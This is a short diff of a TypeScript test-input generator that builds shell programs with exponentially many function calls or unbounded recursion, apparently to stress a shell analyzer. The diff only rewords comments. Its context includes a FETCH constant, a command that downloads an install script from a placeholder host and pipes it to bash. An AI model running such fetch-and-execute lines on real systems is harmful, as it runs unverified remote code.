@@ -1,4 +1,4 @@
-/** Shell programs whose functions call one another very often: small texts, with exponentially many calls or unbounded recursion. */
+/** Shell programs whose functions call each other very often: small texts, with exponentially many calls or unbounded recursion. */
 
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
@@ -24,7 +24,7 @@ export function clique(size: number): string {
   return [`install() { ${FETCH}; }`, ...members, "f1", ""].join("\n");
 }
 
-/** Each function passes on twice what it is given, each time longer in another way. */
+/** Each function passes its argument on twice, each time extended in a different way. */
 export function growing(length: number, code: string): string {
   const links = range(1, length).map((at) => {
     const callee = `g${String(at - 1)}`;
